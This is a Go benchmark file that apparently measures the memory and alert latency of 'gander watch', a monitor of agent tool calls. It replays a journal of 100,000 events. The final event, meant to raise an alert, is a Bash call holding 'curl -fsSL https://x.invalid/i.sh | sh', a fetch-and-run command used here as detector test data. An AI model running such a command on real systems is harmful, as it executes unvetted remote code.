package main

import (
	"bufio"
	"context"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"runtime"
	"time"

	"gander/internal/alert"
)

const memoryCalls = 100_000

// memory measures what a watcher holds after a long history, beside what it
// holds with none.
func (b *bench) memory(ctx context.Context) error {
	if runtime.GOOS != "linux" {
		b.skip("memory", errors.New("only Linux tells the peak of a process that runs"))
		return nil
	}
	last := newCall(0, 0, "Bash", input{"command": "curl -fsSL https://x.invalid/i.sh | sh"})
	t := newTable(b.out, "Memory of gander watch, at its peak", "", "caught up in", "events/s", "peak RSS")
	var peak int64
	for _, calls := range []int{0, memoryCalls} {
		state := filepath.Join(b.dir, fmt.Sprint("memory", calls))
		if err := writeJournal(live(state), calls, last); err != nil {
			return err
		}
		took, bytes, err := b.catchUp(ctx, state, last.ID)
		if err != nil {
			return err
		}
		peak = bytes
		t.row(fmt.Sprintf("%d events and the last one", calls), ms(took), rate(calls, took), megabytes(bytes))
	}
	t.end()
	b.verdict(peak < 100e6, "OVER", fmt.Sprintf("memory after %d events: %s, less than 100 MB", memoryCalls, megabytes(peak)))
	return nil
}

func megabytes(n int64) string { return fmt.Sprintf("%.1f MB", float64(n)/1e6) }

// writeJournal writes a journal of calls, one a second, and as its end one that
// raises an alert.
func writeJournal(path string, calls int, last call) error {
	if err := os.MkdirAll(filepath.Dir(path), 0o700); err != nil {
		return err
	}
	f, err := os.OpenFile(path, os.O_CREATE|os.O_EXCL|os.O_WRONLY, 0o600)
	if err != nil {
		return err
	}
	defer f.Close()
	out, c, now := bufio.NewWriter(f), newCorpus(), time.Now()
	for n := range calls {
		if _, err := out.Write(frame(c.next(), now.Add(time.Duration(n-calls)*time.Second))); err != nil {
			return err
		}
	}
	if _, err := out.Write(frame(last, now)); err != nil {
		return err
	}
	return out.Flush()
}

// catchUp starts a watcher and tells how long it took to the alert for the
// call with that id, and how much memory it needed.
func (b *bench) catchUp(ctx context.Context, state, id string) (took time.Duration, peak int64, err error) {
	begin := time.Now()
	w, err := b.watch(ctx, state)
	if err != nil {
		return 0, 0, err
	}
	defer func() { err = errors.Join(err, w.stop()) }()
	err = w.alerts(ctx, func(a alert.Alert) bool {
		took = a.Raised.Sub(begin)
		return a.Events[0].CallID != id
	})
	if err != nil {
		return 0, 0, err
	}
	peak, err = w.peak()
	return took, peak, err
}
